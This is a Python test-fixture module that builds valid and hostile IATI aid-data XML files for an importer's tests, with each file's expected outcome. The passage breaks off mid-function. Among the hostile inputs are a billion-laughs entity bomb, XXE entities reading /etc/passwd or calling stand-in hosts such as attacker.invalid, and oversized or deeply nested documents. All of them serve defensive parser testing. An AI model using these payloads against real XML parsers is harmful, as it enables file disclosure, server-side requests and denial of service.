"""Hostile and broken IATI inputs for the importer's tests: builders returning bytes, and what the importer must say.

Every builder documents the expected outcome, one of:

- **refused**: a file-level refusal (`ImportResult.refused`, one message with the line), and *nothing* of the file
  is imported, not even the activities before the fault (DESIGN.md, invariant 6: all or nothing);
- **skipped**: that activity alone is left out with a problem naming its line; the others are imported;
- **imported**: the file is valid and must be imported like `valid_activities()`.

`expected(name)` gives the outcome and the line for the builder `name` called with its defaults; `CASES` lists
the names, for `pytest.mark.parametrize`. Lines are 1-based, as lxml's `sourceline` and `XMLSyntaxError.lineno`.
Every document is laid out one element per line, so that the lines are stable; `line_of(data, needle)` finds one.

Nothing here touches the network or the disk; the XXE builders point at `/etc/passwd` and at unroutable URLs
(`http://127.0.0.1:9/` and the reserved `.invalid` domain) so that a parser that fetched would fail loudly or
leak text a test can look for (`PASSWD_MARKER`).
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape, quoteattr

PASSWD_MARKER = "root:x:0:0"  # in /etc/passwd: must never appear in anything the importer stores or says
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
XML_LANG = "xml:lang"


@dataclass(frozen=True)
class Expected:
    outcome: str  # "refused" | "skipped" | "imported"
    line: int | None  # the line the message names (the refusal's, or the skipped activity's problem's)
    about: str  # what the message is about, for a human (tests match the line and the outcome)
    imported: int = 0  # activities that end up imported
    skipped: int = 0  # activities skipped
    also: tuple[int, ...] = ()  # other lines a correct importer may name (see the builder)

    @property
    def lines(self) -> set[int | None]:
        """The lines a test should accept."""
        return {self.line, *self.also}


# --- writing documents one element per line -----------------------------------------------------------------
class _Doc:
    def __init__(self) -> None:
        self.lines: list[str] = []
        self.depth = 0

    @staticmethod
    def _attrs(attrs: dict[str, str] | None) -> str:
        return "".join(f" {k}={quoteattr(v)}" for k, v in (attrs or {}).items())

    def raw(self, line: str) -> None:
        self.lines.append("  " * self.depth + line)

    def open(self, tag: str, attrs: dict[str, str] | None = None) -> None:
        self.raw(f"<{tag}{self._attrs(attrs)}>")
        self.depth += 1

    def close(self, tag: str) -> None:
        self.depth -= 1
        self.raw(f"</{tag}>")

    def leaf(self, tag: str, attrs: dict[str, str] | None = None, text: str | None = None) -> None:
        if text is None:
            self.raw(f"<{tag}{self._attrs(attrs)}/>")
        else:
            self.raw(f"<{tag}{self._attrs(attrs)}>{escape(text)}</{tag}>")

    def narratives(self, tag: str, texts: dict[str, str], attrs: dict[str, str] | None = None) -> None:
        self.open(tag, attrs)
        for lang, text in texts.items():
            self.leaf("narrative", {XML_LANG: lang} if lang != "en" else None, text)
        self.close(tag)

    def org(self, tag: str, org: tuple[str | None, str, str], **attrs: str) -> None:
        ref, type_, name = org
        merged = ({"ref": ref} if ref else {}) | {"type": type_} | {k.replace("_", "-"): v for k, v in attrs.items()}
        vietnamese = ref is None or ref.startswith("VN-")
        self.narratives(tag, {"vi" if vietnamese else "en": name}, merged)

    def text(self) -> str:
        return "\n".join(self.lines) + "\n"


# Five realistic activities for Viet Nam, 2019–2024, two provinces (names the same in both eras), EUR and USD.
_ORG_FR = ("FR-RNA-W751234567", "21", "Enfance et Développement Mékong")
_ORG_US = ("US-EIN-521234567", "21", "Legacies of War Clearance Fund")
_ORG_DE = ("DE-CR-VR34567", "21", "Wasser für Alle e.V.")
_ORG_AU = ("AU-ABN-12345678901", "21", "Mekong Mothers and Babies Australia")
_ORG_FOUNDATION = ("US-EIN-131234567", "60", "Bright Futures Foundation")
_PARTNER_DB = (None, "10", "Sở Giáo dục và Đào tạo tỉnh Điện Biên")
_PARTNER_QT = (None, "22", "Trung tâm Hành động Bom mìn tỉnh Quảng Trị")
_PARTNER_WU = ("VN-MOHA-204512", "22", "Hội Liên hiệp Phụ nữ tỉnh Quảng Trị")

# (identifier, org, default currency, titles, description, status, dates, countries, provinces, sectors, txs)
# txs: (type, date, value, currency or None, provider, receiver)
_ACTIVITIES: list[dict] = [
    {
        "id": "FR-RNA-W751234567-VN-001",
        "org": _ORG_FR,
        "currency": "EUR",
        "titles": {
            "en": "Inclusive education for children with disabilities in Điện Biên",
            "fr": "Éducation inclusive pour les enfants en situation de handicap à Điện Biên",
            "vi": "Giáo dục hòa nhập cho trẻ em khuyết tật tại tỉnh Điện Biên",
        },
        "description": {
            "en": "Teacher training, accessible classrooms and support for 1,200 children in 40 schools.",
            "vi": "Tập huấn giáo viên, lớp học dễ tiếp cận và hỗ trợ 1.200 trẻ em tại 40 trường.",
        },
        "status": "2",
        "dates": {"1": "2019-07-01", "2": "2019-09-01", "3": "2024-06-30"},
        "countries": [("VN", "100")],
        "provinces": ["Điện Biên"],
        "sectors": [("1", "11220", "60"), ("1", "16010", "40")],
        "partner": _PARTNER_DB,
        "txs": [
            ("2", "2019-07-01", "600000.00", None, _ORG_FR, _PARTNER_DB),
            ("3", "2019-10-15", "150000.00", None, _ORG_FR, _PARTNER_DB),
            ("3", "2020-11-20", "180000.00", None, _ORG_FR, _PARTNER_DB),
            ("3", "2021-10-05", "160000.00", None, _ORG_FR, _PARTNER_DB),
            ("4", "2022-03-10", "45000.50", None, None, None),
        ],
    },
    {
        "id": "US-EIN-521234567-VN-002",
        "org": _ORG_US,
        "currency": "USD",
        "titles": {
            "en": "Clearance of unexploded ordnance in Quảng Trị",
            "vi": "Rà phá bom mìn và vật liệu chưa nổ tại tỉnh Quảng Trị",
        },
        "description": {
            "en": "Survey and clearance of contaminated farmland, and risk education in villages.",
            "vi": "Khảo sát, rà phá đất nông nghiệp bị ô nhiễm bom mìn và giáo dục phòng tránh tai nạn.",
        },
        "status": "2",
        "dates": {"1": "2020-01-15", "2": "2020-02-01", "3": "2024-12-31"},
        "countries": [("VN", "100")],
        "provinces": ["Quảng Trị"],
        "sectors": [("1", "15250", "100")],
        "partner": _PARTNER_QT,
        "txs": [
            ("2", "2020-01-15", "1200000.00", None, _ORG_US, _PARTNER_QT),
            ("3", "2020-03-01", "300000.00", None, _ORG_US, _PARTNER_QT),
            ("3", "2021-02-10", "350000.00", None, _ORG_US, _PARTNER_QT),
            ("3", "2022-02-14", "300000.00", None, _ORG_US, _PARTNER_QT),
            ("3", "2023-02-20", "250000.00", None, _ORG_US, _PARTNER_QT),
        ],
    },
    {
        "id": "DE-CR-VR34567-VN-003",
        "org": _ORG_DE,
        "currency": "EUR",
        "titles": {
            "en": "Clean water and sanitation for rural communities in Điện Biên and Quảng Trị",
            "vi": "Nước sạch và vệ sinh môi trường nông thôn tại Điện Biên và Quảng Trị",
            "fr": "Eau potable et assainissement pour les communautés rurales",
        },
        "description": {
            "en": "Gravity-fed water systems and school latrines in 24 communes.",
            "vi": "Hệ thống cấp nước tự chảy và nhà vệ sinh trường học tại 24 xã.",
        },
        "status": "2",
        "dates": {"1": "2021-03-01", "2": "2021-04-01", "3": "2025-02-28"},
        "countries": [("VN", "100")],
        "provinces": ["Điện Biên", "Quảng Trị"],
        "sectors": [("1", "14030", "70"), ("1", "14032", "30")],
        "partner": _PARTNER_WU,
        "txs": [
            ("11", "2021-03-01", "450000.00", None, _ORG_FOUNDATION, _ORG_DE),
            ("1", "2021-05-10", "150000.00", None, _ORG_FOUNDATION, _ORG_DE),
            ("3", "2021-06-01", "120000.00", None, _ORG_DE, _PARTNER_WU),
            ("3", "2022-06-15", "95000.00", "USD", _ORG_DE, _PARTNER_WU),
            ("3", "2023-06-20", "110000.00", None, _ORG_DE, _PARTNER_WU),
        ],
    },
    {
        "id": "AU-ABN-12345678901-VN-004",
        "org": _ORG_AU,
        "currency": "USD",
        "titles": {
            "en": "Maternal and child health and nutrition in Quảng Trị",
            "vi": "Sức khỏe và dinh dưỡng bà mẹ và trẻ em tại tỉnh Quảng Trị",
        },
        "description": {
            "en": "Antenatal care, breastfeeding counselling and growth monitoring; a share of the work is in Laos.",
            "vi": "Chăm sóc trước sinh, tư vấn nuôi con bằng sữa mẹ và theo dõi tăng trưởng.",
        },
        "status": "2",
        "dates": {"1": "2022-01-01", "2": "2022-01-10", "3": "2024-12-31"},
        "countries": [("VN", "80"), ("LA", "20")],
        "provinces": ["Quảng Trị"],
        "sectors": [("1", "12240", "50"), ("1", "13020", "50")],
        "partner": _PARTNER_WU,
        "txs": [
            ("2", "2022-01-01", "500000.00", None, _ORG_AU, _PARTNER_WU),
            ("3", "2022-02-15", "120000.00", None, _ORG_AU, _PARTNER_WU),
            ("3", "2023-02-15", "130000.00", None, _ORG_AU, _PARTNER_WU),
            ("3", "2024-02-15", "125000.00", "EUR", _ORG_AU, _PARTNER_WU),
        ],
    },
    {
        "id": "US-EIN-131234567-VN-005",
        "org": _ORG_FOUNDATION,
        "currency": "USD",
        "titles": {
            "en": "Climate-resilient agricultural livelihoods in Điện Biên",
            "vi": "Sinh kế nông nghiệp thích ứng với biến đổi khí hậu tại tỉnh Điện Biên",
        },
        "description": {
            "en": "Drought-tolerant crops, farmer field schools and village savings groups.",
            "vi": "Giống cây chịu hạn, lớp học hiện trường cho nông dân và nhóm tiết kiệm thôn bản.",
        },
        "status": "2",
        "dates": {"1": "2023-01-01", "2": "2023-02-01", "3": "2025-12-31"},
        "countries": [("VN", "100")],
        "provinces": ["Điện Biên"],
        "sectors": [("1", "31120", "100"), ("2", "311", "100")],
        "partner": _PARTNER_DB,
        "txs": [
            ("2", "2023-01-01", "250000.00", None, _ORG_FOUNDATION, _PARTNER_DB),
            ("3", "2023-03-01", "80000.00", None, _ORG_FOUNDATION, _PARTNER_DB),
            ("3", "2024-03-01", "90000.00", None, _ORG_FOUNDATION, _PARTNER_DB),
        ],
    },
]


def _activity(
    doc: _Doc,
    spec: dict,
    *,
    identifier: str | None = None,
    default_currency: bool = True,
    hooks: dict[str, Callable[[_Doc], None]] | None = None,
) -> None:
    """One activity; `hooks` insert lines at named places ("start", "sectors", "transactions", "end")."""
    hooks = hooks or {}
    attrs = {"last-updated-datetime": "2024-06-01T09:00:00Z", XML_LANG: "en"}
    if default_currency:
        attrs["default-currency"] = spec["currency"]
    doc.open("iati-activity", attrs | {"hierarchy": "1"})
    if "start" in hooks:
        hooks["start"](doc)
    if identifier != "":
        doc.leaf("iati-identifier", None, identifier or spec["id"])
    doc.org("reporting-org", spec["org"])
    doc.narratives("title", spec["titles"])
    doc.narratives("description", spec["description"], {"type": "1"})
    funder = spec["txs"][0][4] if spec["txs"][0][0] == "11" else spec["org"]
    doc.org("participating-org", funder, role="1")
    doc.org("participating-org", spec["org"], role="2")
    doc.org("participating-org", spec["partner"], role="4")
    doc.leaf("activity-status", {"code": spec["status"]})
    for type_, when in spec["dates"].items():
        doc.leaf("activity-date", {"type": type_, "iso-date": when})
    for code, share in spec["countries"]:
        doc.leaf("recipient-country", {"code": code, "percentage": share})
    for k, province in enumerate(spec["provinces"], start=1):
        doc.open("location", {"ref": f"{spec['id']}-L{k}"})
        doc.leaf("location-reach", {"code": "1"})
        doc.narratives("name", {"vi": province})
        doc.leaf("administrative", {"vocabulary": "A4", "level": "0", "code": "VN"})
        doc.leaf("exactness", {"code": "2"})
        doc.leaf("location-class", {"code": "1"})
        doc.close("location")
    for vocabulary, code, share in spec["sectors"]:
        doc.leaf("sector", {"vocabulary": vocabulary, "code": code, "percentage": share})
    if "sectors" in hooks:
        hooks["sectors"](doc)
    doc.leaf("default-flow-type", {"code": "30"})
    doc.leaf("default-finance-type", {"code": "110"})
    doc.leaf("default-aid-type", {"code": "C01"})
    doc.leaf("default-tied-status", {"code": "5"})
    first_year = int(spec["dates"]["1"][:4])
    doc.open("budget", {"type": "1", "status": "2"})
    doc.leaf("period-start", {"iso-date": f"{first_year}-01-01"})
    doc.leaf("period-end", {"iso-date": f"{first_year}-12-31"})
    doc.leaf(
        "value",
        {"value-date": f"{first_year}-01-01"} | ({} if default_currency else {"currency": spec["currency"]}),
        spec["txs"][0][2],
    )
    doc.close("budget")
    for k, (type_, when, value, currency, provider, receiver) in enumerate(spec["txs"], start=1):
        doc.open("transaction", {"ref": f"{spec['id']}-T{k}"})
        doc.leaf("transaction-type", {"code": type_})
        doc.leaf("transaction-date", {"iso-date": when})
        explicit = currency or (None if default_currency else spec["currency"])
        doc.leaf("value", {"value-date": when} | ({"currency": explicit} if explicit else {}), value)
        if provider:
            doc.org("provider-org", provider)
        if receiver:
            doc.org("receiver-org", receiver)
        doc.close("transaction")
    if "transactions" in hooks:
        hooks["transactions"](doc)
    if "end" in hooks:
        hooks["end"](doc)
    doc.close("iati-activity")


def _document(
    activities: Callable[[_Doc], None],
    *,
    version: str = "2.03",
    declaration: str = DECLARATION,
    prolog: list[str] | None = None,
) -> str:
    doc = _Doc()
    if declaration:
        doc.raw(declaration)
    for line in prolog or []:
        doc.raw(line)
    doc.open("iati-activities", {"version": version, "generated-datetime": "2024-06-01T09:00:00Z"})
    activities(doc)
    doc.close("iati-activities")
    return doc.text()


def _specs(n: int) -> list[tuple[dict, str]]:
    """n activities: the five above, then again with new identifiers."""
    out = []
    for i in range(n):
        spec = _ACTIVITIES[i % len(_ACTIVITIES)]
        out.append((spec, spec["id"] if i < len(_ACTIVITIES) else f"{spec['id']}-{i // len(_ACTIVITIES) + 1}"))
    return out


def _valid_text(
    n: int = 3, *, version: str = "2.03", default_currency: bool = True, declaration: str = DECLARATION
) -> str:
    def body(doc: _Doc) -> None:
        for spec, identifier in _specs(n):
            _activity(doc, spec, identifier=identifier, default_currency=default_currency)

    return _document(body, version=version, declaration=declaration)


def line_of(data: bytes, needle: bytes | str) -> int:
    """The 1-based line of the first occurrence of `needle` in UTF-8/ASCII `data`."""
    needle_bytes = needle.encode() if isinstance(needle, str) else needle
    index = data.index(needle_bytes)
    return data.count(b"\n", 0, index) + 1


# --- the valid fixture --------------------------------------------------------------------------------------
def valid_activities(n: int = 3, *, version: str = "2.03", default_currency: bool = True) -> bytes:
    """`n` valid, realistic IATI activities about Viet Nam (UTF-8, one element per line). Expected: **imported**.

    The first five: inclusive education in Điện Biên (EUR), UXO clearance in Quảng Trị (USD), water and
    sanitation in both provinces (EUR, one disbursement in USD, an incoming commitment and incoming funds from a
    foundation), maternal health in Quảng Trị with a 20 % share for Laos (USD, one disbursement in EUR),
    agriculture in Điện Biên (USD, sectors in vocabularies 1 and 2). Transactions and value dates are in
    2019–2024, which the reference FX rates cover. Each has participating-orgs of roles 1, 2 and 4 (the local
    partners without a ref but one), DAC sectors summing to 100, a budget. Beyond five, the same again with
    identifiers suffixed `-2`, `-3`…; `default_currency=False` puts the currency on every value instead.
    """
    return _valid_text(n, version=version, default_currency=default_currency).encode()


# --- entities and DTDs: refused before anything is expanded or fetched --------------------------------------
def billion_laughs(levels: int = 10) -> bytes:
    """The "billion laughs" bomb: nested internal entities (10 levels × 10 = 10¹⁰ "lol"s, about 30 GB if expanded).

    Expected: **refused** at line 2 (the DOCTYPE): IATI files have no DOCTYPE; nothing is expanded (the refusal is
    immediate and the memory flat), nothing imported. libxml2 (lxml ≥ 5) itself stops this one with "Maximum entity
    amplification factor exceeded" at line 1 even with `resolve_entities=False`: line 1 is accepted too."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels)
    ]
    prolog = ["<!DOCTYPE iati-activities [", *entities, "]>"]

    def body(doc: _Doc) -> None:
        spec = _ACTIVITIES[0]
        _activity(doc, spec, hooks={"end": lambda d: d.narratives("result", {"en": f"&lol{levels - 1};"})})

    text = _document(body, prolog=prolog)
    return text.replace(f"&amp;lol{levels - 1};", f"&lol{levels - 1};").encode()


def xxe_file(path: str = "/etc/passwd") -> bytes:
    """An external entity on a local file, used in a title: `<!ENTITY x SYSTEM "file:///etc/passwd">`.

    Expected: **refused** at line 2 (the DOCTYPE); the file is never read: `PASSWD_MARKER` appears in no stored
    text, message or log."""
    return _with_entity(f'<!ENTITY xxe SYSTEM "file://{path}">')


def xxe_http(url: str = "http://127.0.0.1:9/iati/evil.xml") -> bytes:
    """An external entity on an http URL (port 9, discard: nothing listens; a test may serve it to detect a fetch).

    Expected: **refused** at line 2 (the DOCTYPE); no network connection is attempted."""
    return _with_entity(f'<!ENTITY xxe SYSTEM "{url}">')


def xxe_parameter_entity(url: str = "http://attacker.invalid/evil.dtd") -> bytes:
    """A parameter entity that would pull an external DTD (`%remote;`), the out-of-band XXE pattern.

    Expected: **refused** at line 2 (the DOCTYPE); nothing fetched."""
    prolog = ["<!DOCTYPE iati-activities [", f'<!ENTITY % remote SYSTEM "{url}">', "%remote;", "]>"]
    return _document(lambda doc: _activity(doc, _ACTIVITIES[0]), prolog=prolog).encode()


def external_dtd(url: str = "http://attacker.invalid/iati-activities.dtd") -> bytes:
    """A DOCTYPE naming an external DTD: `<!DOCTYPE iati-activities SYSTEM "http://…">`.

    Expected: **refused** at line 2 (the DOCTYPE); the DTD is not fetched."""
    prolog = [f'<!DOCTYPE iati-activities SYSTEM "{url}">']
    return _document(lambda doc: _activity(doc, _ACTIVITIES[0]), prolog=prolog).encode()


def _with_entity(declaration: str) -> bytes:
    prolog = ["<!DOCTYPE iati-activities [", declaration, "]>"]

    def body(doc: _Doc) -> None:
        spec = dict(_ACTIVITIES[0])
        spec["titles"] = {"en": "XXE-TITLE &xxe;", **{k: v for k, v in spec["titles"].items() if k != "en"}}
        _activity(doc, spec)

    return _document(body, prolog=prolog).replace("&amp;xxe;", "&xxe;").encode()


# --- not XML, not IATI ---------------------------------------------------------------------------------------
def empty() -> bytes:
    """An empty file. Expected: **refused** ("empty or not XML"), no line (or line 1)."""
    return b""


def not_xml_png() -> bytes:
    """A PNG image (signature, IHDR of a 1×1 image, IEND). Expected: **refused** at line 1: not XML."""
    return (
        b"\x89PNG\r\n\x1a\n"
        b"\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
        b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
    )


def not_xml_zip() -> bytes:
    """A zip archive holding a valid IATI file (people upload the archive). Expected: **refused** at line 1: not
    XML (Amity does not open archives)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("activities.xml", valid_activities(3))
    return buffer.getvalue()


def wrong_root() -> bytes:
    """Well-formed XML that is not an IATI activity file (an organisation file's root).

    Expected: **refused** at line 2 (the root element): not `<iati-activities>`."""
    text = (
        _valid_text(1)
        .replace("<iati-activities ", "<iati-organisations ")
        .replace("</iati-activities>", "</iati-organisations>")
    )
    return text.encode()


# --- broken XML: refused at the line of the fault, nothing imported -------------------------------------------
MALFORMED_NEEDLE = "<narrative>Broken: this element is never closed</title>"


def malformed() -> bytes:
    """Three valid activities, then a fourth whose title breaks: `<narrative>…</title>` (mismatched end tag).

    Expected: **refused** at the line of that end tag (`expected("malformed").line`: 322, the three realistic
    activities before it take 320 lines), and nothing imported: not even the three complete activities before it."""

    def body(doc: _Doc) -> None:
        for spec, identifier in _specs(3):
            _activity(doc, spec, identifier=identifier)
        doc.open("iati-activity", {XML_LANG: "en", "default-currency": "EUR"})
        doc.leaf("iati-identifier", None, "FR-RNA-W751234567-VN-099")
        doc.org("reporting-org", _ORG_FR)
        doc.open("title")
        doc.raw(MALFORMED_NEEDLE)
        doc.close("title")
        doc.close("iati-activity")

    return _document(body).encode()


def truncated(keep: float = 0.7) -> bytes:
    """Five valid activities cut at 70 % of the bytes, in the middle of a tag (an interrupted upload).

    Expected: **refused** at the last line of the data (premature end of the document), nothing imported —
    not even the complete activities before the cut."""
    data = valid_activities(5)
    cut = int(len(data) * keep)
    while data[cut - 1 : cut] in (b"<", b">", b"\n"):  # end inside a tag's text, not at a clean boundary
        cut += 1
    return data[:cut]


def utf16(*, bom: bool = True, byteorder: str = "little") -> bytes:
    """`valid_activities(3)` in UTF-16 (declared `encoding="UTF-16"`), with or without the byte order mark.

    Expected with the BOM: **imported**, exactly as the UTF-8 file. Without it (XML 1.0 says UTF-16 must have a
    BOM, but its appendix F detects `<?` in UTF-16 and libxml2 does): **imported** as well; a file-level refusal at
    line 1 naming the encoding would be acceptable, a crash or garbled text is not."""
    text = _valid_text(3, declaration='<?xml version="1.0" encoding="UTF-16"?>')
    codec = "utf-16-le" if byteorder == "little" else "utf-16-be"
    data = text.encode(codec)
    if bom:
        data = ("\ufeff").encode(codec) + data
    return data


LATIN1_TITLE_FR = "Éducation inclusive à Điện Biên : écoles, élèves, maîtres — ça marche"


def latin1() -> bytes:
    """A valid file declaring `encoding="ISO-8859-1"`, with Latin-1 bytes (é = 0xE9, à = 0xE0, ç = 0xE7) and
    character references for what Latin-1 lacks (Đ = `&#272;`, ệ = `&#7879;`, — = `&#8212;`).

    Expected: **imported**, the French title read as `LATIN1_TITLE_FR` exactly (Unicode, not mojibake)."""

    def body(doc: _Doc) -> None:
        spec = dict(_ACTIVITIES[0])
        spec["titles"] = {**spec["titles"], "fr": LATIN1_TITLE_FR}
        spec["description"] = {"en": "Teacher training in Điện Biên."}  # no Vietnamese-only text beyond refs
        _activity(doc, spec)

    text = _document(body, declaration='<?xml version="1.0" encoding="ISO-8859-1"?>')
    return text.encode("iso-8859-1", errors="xmlcharrefreplace")


INVALID_UTF8_NEEDLE = b"Bad bytes here: "


def invalid_utf8() -> bytes:
    """Declares UTF-8 but the second activity's English title holds `\\xc3\\x28` and `\\xff` (not UTF-8).

    Expected: **refused** at that line (`expected("invalid_utf8").line`): the encoding is wrong for the whole
    file, so nothing is imported; the message says the bytes are not UTF-8."""

    def body(doc: _Doc) -> None:
        for k, (spec, identifier) in enumerate(_specs(3)):
            if k == 1:
                spec = dict(spec)
                spec["titles"] = {"en": "BAD-UTF8-TITLE", **{k: v for k, v in spec["titles"].items() if k != "en"}}
            _activity(doc, spec, identifier=identifier)

    return _document(body).encode().replace(b"BAD-UTF8-TITLE", INVALID_UTF8_NEEDLE + b"caf\xc3\x28 \xff")


def version_105() -> bytes:
    """An IATI 1.05 file (`version="1.05"`; titles without narratives, `type="start-planned"`, transaction code
    `C`). Expected: **refused** at line 2 (the root): version 1.05 is not supported (2.01–2.03)."""
    lines = [
        DECLARATION,
        '<iati-activities version="1.05" generated-datetime="2014-06-01T09:00:00">',
        '  <iati-activity default-currency="EUR" xml:lang="en" last-updated-datetime="2014-06-01T09:00:00">',
        "    <iati-identifier>FR-RNA-W751234567-VN-105</iati-identifier>",
        '    <reporting-org ref="FR-RNA-W751234567" type="21">Enfance et Développement Mékong</reporting-org>',
        "    <title>Inclusive education in Dien Bien</title>",
        '    <participating-org ref="FR-RNA-W751234567" role="Funding" type="21">Enfance et Développement</participating-org>',  # noqa: E501
        '    <activity-status code="2">Implementation</activity-status>',
        '    <activity-date type="start-planned" iso-date="2014-01-01"/>',
        '    <recipient-country code="VN" percentage="100">Viet Nam</recipient-country>',
        '    <sector vocabulary="DAC" code="11220" percentage="100"/>',
        "    <transaction>",
        '      <transaction-type code="C"/>',
        '      <value value-date="2014-01-01">100000</value>',
        '      <transaction-date iso-date="2014-01-01"/>',
        "    </transaction>",
        "  </iati-activity>",
        "</iati-activities>",
    ]
    return ("\n".join(lines) + "\n").encode()


# --- faults inside one activity: that activity skipped, the others imported -----------------------------------
def missing_identifier() -> bytes:
    """Three activities; the second has no `iati-identifier`.

    Expected: the second **skipped** at the line of its `<iati-activity>` ("no iati-identifier"); the first and
    third imported."""

    def body(doc: _Doc) -> None:
        for k, (spec, identifier) in enumerate(_specs(3)):
            _activity(doc, spec, identifier="" if k == 1 else identifier)

    return _document(body).encode()


UNKNOWN_CODES = ("currency", "transaction-type", "sector")


def unknown_codes(which: str = "all") -> bytes:
    """Three activities; the second uses unknown codes: default-currency `XYZ`, a transaction of type `99`, DAC
    sector `99999` (`which` = "currency", "transaction-type", "sector" for one of them only, "all" for the three).

    Expected: the second **skipped** (an amount in an unknown currency cannot be valued; a made-up code is never
    stored), the problem at the line of the offending element: `expected(f"unknown_codes:{which}").line` (for
    "all", the importer may name any of the three lines; the expectation gives the first); the others imported."""
    return _strip_markers(_unknown_codes_marked(which)).encode()


def _strip_markers(text: str) -> str:
    return re.sub(r' data-marker="[^"]*"', "", text)


def _unknown_codes_marked(which: str) -> str:
    """The document with a `data-marker` attribute on each offending element (same lines as without)."""
    if which not in (*UNKNOWN_CODES, "all"):
        raise ValueError(f"which must be one of {UNKNOWN_CODES} or 'all'")
    wanted = set(UNKNOWN_CODES) if which == "all" else {which}

    def odd_transaction(d: _Doc) -> None:
        d.open("transaction")
        d.leaf("transaction-type", {"code": "99", "data-marker": "transaction-type"})
        d.leaf("transaction-date", {"iso-date": "2021-05-05"})
        d.leaf("value", {"value-date": "2021-05-05", "currency": "USD"}, "1000.00")
        d.close("transaction")

    def body(doc: _Doc) -> None:
        for k, (spec, identifier) in enumerate(_specs(3)):
            if k != 1:
                _activity(doc, spec, identifier=identifier)
                continue
            spec = dict(spec)
            hooks: dict[str, Callable[[_Doc], None]] = {}
            if "currency" in wanted:
                spec["currency"] = "XYZ"
            if "sector" in wanted:
                spec["sectors"] = spec["sectors"][:-1]  # the unknown sector takes the last one's share
                last = _ACTIVITIES[1]["sectors"][-1]
                hooks["sectors"] = lambda d, share=last[2]: d.leaf(
                    "sector", {"vocabulary": "1", "code": "99999", "percentage": share, "data-marker": "sector"}
                )
            if "transaction-type" in wanted:
                hooks["transactions"] = odd_transaction
            _activity(doc, spec, identifier=identifier, hooks=hooks)

    text = _document(body)
    if "currency" in wanted:
        text = text.replace('default-currency="XYZ"', 'default-currency="XYZ" data-marker="currency"', 1)
    return text


def transaction_without_value_date_and_currency() -> bytes:
    """Three activities; the second has no `default-currency` and one transaction whose `<value>` has neither
    `currency` nor `value-date`.

    Expected: the second **skipped** at the line of that `<value>`: the amount has no currency, so it cannot be
    valued (a missing value-date alone only warns: IATI says the transaction date is used then); the others
    imported."""

    def odd(d: _Doc) -> None:
        d.open("transaction")
        d.leaf("transaction-type", {"code": "3"})
        d.leaf("transaction-date", {"iso-date": "2022-09-09"})
        d.raw('<value data-marker="no-currency">25000.00</value>')
        d.close("transaction")

    def body(doc: _Doc) -> None:
        for k, (spec, identifier) in enumerate(_specs(3)):
            if k == 1:
                _activity(doc, spec, identifier=identifier, default_currency=False, hooks={"transactions": odd})
            else:
                _activity(doc, spec, identifier=identifier)

    return _document(body).encode().replace(b' data-marker="no-currency"', b"")


# --- resource limits: refused quickly, memory flat -----------------------------------------------------------
def deeply_nested(depth: int = 10_000) -> bytes:
    """One activity holding `depth` nested elements, all on line 5 (`<x><x>…</x></x>`).

    Expected: **refused** at line 5, quickly and without a RecursionError: libxml2 stops at its depth limit
    (256 without `huge_tree`, which the importer must not turn on)."""
    head = [
        DECLARATION,
        '<iati-activities version="2.03">',
        '  <iati-activity default-currency="USD">',
        "    <iati-identifier>US-EIN-521234567-VN-DEEP</iati-identifier>",
    ]
    nested = "    " + "<x>" * depth + "deep" + "</x>" * depth
    tail = ["  </iati-activity>", "</iati-activities>"]
    return ("\n".join([*head, nested, *tail]) + "\n").encode()


def huge_text_node(size: int = 12 * 2**20) -> bytes:
    """A 1-line file (no newline at all) whose description narrative is `size` bytes of text (12 MiB by default,
    over libxml2's 10,000,000-byte text-node limit).

    Expected: **refused** at line 1 (the text node is over the parser's limit; `huge_tree` stays off), quickly,
    memory bounded by the file's size."""
    head = (
        f'{DECLARATION}<iati-activities version="2.03"><iati-activity default-currency="USD">'
        "<iati-identifier>US-EIN-521234567-VN-HUGE</iati-identifier>"
        '<reporting-org ref="US-EIN-521234567" type="21"><narrative>Legacies of War</narrative></reporting-org>'
        "<title><narrative>Huge</narrative></title><description><narrative>"
    )
    tail = "</narrative></description></iati-activity></iati-activities>"
    return head.encode() + b"A" * size + tail.encode()


# --- expectations --------------------------------------------------------------------------------------------
def expected(name: str) -> Expected:
    """The expected outcome for a builder called with its defaults (`unknown_codes:<which>` for its variants)."""
    if name == "valid_activities":
        return Expected("imported", None, "a valid file", imported=3)
    if name in ("billion_laughs", "xxe_file", "xxe_http", "xxe_parameter_entity", "external_dtd"):
        also = (1,) if name == "billion_laughs" else ()  # libxml2's own entity-amplification limit names line 1
        return Expected("refused", 2, "a DOCTYPE (entities, DTDs) is refused; nothing expanded or fetched", also=also)
    if name == "empty":
        return Expected("refused", None, "the file is empty or not XML")
    if name in ("not_xml_png", "not_xml_zip"):
        return Expected("refused", 1, "the file is not XML")
    if name == "wrong_root":
        return Expected("refused", 2, "not an IATI activity file (root element)")
    if name == "malformed":
        return Expected("refused", line_of(malformed(), MALFORMED_NEEDLE), "not well-formed (mismatched tag)")
    if name == "truncated":
        data = truncated()
        return Expected("refused", data.count(b"\n") + 1, "not well-formed: the document ends too early")
    if name in ("utf16", "utf16:bom", "utf16:nobom", "latin1"):
        return Expected("imported", None, "a valid file in another encoding", imported=3 if "utf16" in name else 1)
    if name == "invalid_utf8":
        return Expected("refused", line_of(invalid_utf8(), INVALID_UTF8_NEEDLE), "bytes that are not UTF-8")
    if name == "version_105":
        return Expected("refused", 2, "IATI version 1.05 is not supported")
    if name == "missing_identifier":
        data = missing_identifier()
        second = [i for i, line in enumerate(data.split(b"\n"), start=1) if line.strip().startswith(b"<iati-activity ")]
        return Expected("skipped", second[1], "the activity has no iati-identifier", imported=2, skipped=1)
    if name.startswith("unknown_codes"):
        which = name.partition(":")[2] or "all"
        marked = _unknown_codes_marked(which).encode()
        marks = [line_of(marked, f'data-marker="{code}"') for code in (UNKNOWN_CODES if which == "all" else (which,))]
        first = min(marks)
        also: tuple[int, ...] = tuple(sorted(set(marks) - {first}))  # for "all": any of the three
        if which in ("currency", "all"):
